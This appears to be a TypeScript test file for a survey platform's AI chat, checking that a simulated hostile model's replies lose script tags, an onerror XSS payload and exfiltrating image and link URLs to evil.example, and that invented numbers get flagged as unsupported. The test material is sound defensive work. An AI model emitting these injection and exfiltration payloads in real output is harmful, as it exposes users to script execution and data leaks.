import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { ChatFigure } from '../../../src/domain/chat/chat-figure.ts';
import { NumberMarker, NumberSupport } from '../../../src/domain/chat/number-support.ts';
import { type Actor, anonymous, useOrganization } from '../../support/actors.ts';
import { appOn, useApp } from '../../support/app.ts';
import { askAndWait } from '../../support/chat.ts';
import { createChatSurvey } from '../../support/chat-survey.ts';
import { startFakeLanguageServer } from '../../support/fake-language-server.ts';

const model = await startFakeLanguageServer();
const test = useApp({ OPENAI_BASE_URL: model.url, OPENAI_MODEL: 'fake-model' });
const organization = useOrganization(test);
let surveyId: number;

beforeAll(async () => {
  ({ surveyId } = await createChatSurvey(test, organization.admin));
});
afterAll(() => model.close());
beforeEach(() => model.reset());

const sendMessage = (message: string) => askAndWait(organization.admin, { message, survey_id: surveyId });
const storedAnswer = async (sessionId: string) =>
  (await organization.admin.get(`/api/ai/sessions/${sessionId}`).expect(200)).body.data.messages.at(-1) as {
    content: string;
    unsupported_numbers: string[];
  };

describe('the reply of a hostile model', () => {
  it.each([1, 7, 1_000])(
    'contains no HTML, images or addresses, in chunks of %i',
    async (charactersPerChunk) => {
      const content =
        'Fine <script>fetch("https://evil.example")</script><img src=x onerror=alert(1)> people. ' +
        '![p](https://evil.example/p.png?d=secret) See [details](https://evil.example/?d=secret) or www.evil.example';
      model.reply([{ content, charactersPerChunk }]);
      const { text, done } = await sendMessage('How are they?');
      expect(text).not.toMatch(/<|evil|\]\(|!\[/);
      expect(text).toContain('See details or (link removed)');
      expect((await storedAnswer(done.session_id)).content).toBe(text);
    },
  );

  it.each([1, 1_000])('has its invented numbers marked, in chunks of %i', async (charactersPerChunk) => {
    model.reply([
      { calls: [{ name: 'get_distribution', arguments: { question_code: 'Sat' } }] },
      { content: '50 % of the 80 say very good, and 93 % would pay 17.35 more.', charactersPerChunk },
    ]);
    const { text, done } = await sendMessage('How satisfied are they?');
    expect(text).toBe(
      '50 % of the 80 say very good, and 93 % [unsupported] would pay 17.35 [unsupported] more.',
    );
    expect(done.unsupported_numbers).toEqual(['93', '17.35']);
    expect(await storedAnswer(done.session_id)).toMatchObject({
      content: text,
      unsupported_numbers: ['93', '17.35'],
    });
  });

  it('has every number marked without a query, including numbers of the question', async () => {
    model.reply([{ content: 'Yes, 64 % of 500 agree.' }]);
    const { text, done } = await sendMessage('Is it true that 64 % agree?');
    expect(text).toBe('Yes, 64 % [unsupported] of 500 [unsupported] agree.');
    expect(done.unsupported_numbers).toEqual(['64', '500']);
  });

  it('cannot present numbers of a respondent as its own', async () => {
    model.reply([
      { calls: [{ name: 'get_verbatims', arguments: { question_code: 'Why', limit: 2 } }] },
      { content: 'In all 77 % agree.' },
    ]);
    const { done } = await sendMessage('What do they say?');
    expect(done.unsupported_numbers).toEqual(['77']);
  });
});

describe('the built-in chat', () => {
  it.each([
    'How many responses are there?',
    'What questions are there?',
    'How did people answer Sat?',
    'What share is very good?',
    'What is the mean of Age?',
    'What is the median of Age?',
    'What is our NPS?',
    'Sat by Gender',
    'Age by Gender',
    'What do people say in Why?',
    'Does anybody mention bitter?',
  ])('has a figure for every number: %s', async (message) => {
    const builtIn = anonymous(appOn(test.database));
    const post: Actor['post'] = (path, body) =>
      builtIn.post(path, body).set('X-API-Key', organization.admin.apiKey!);
    const { text, done } = await askAndWait({ ...builtIn, post }, { message, survey_id: surveyId });
    expect(done.figures.length).toBeGreaterThan(0);
    expect(done.unsupported_numbers).toEqual([]);
    const support = new NumberSupport();
    for (const figure of done.figures) support.add(figure as unknown as ChatFigure);
    const marker = new NumberMarker(support);
    expect(marker.push(text) + marker.end()).toBe(text);
  });
});
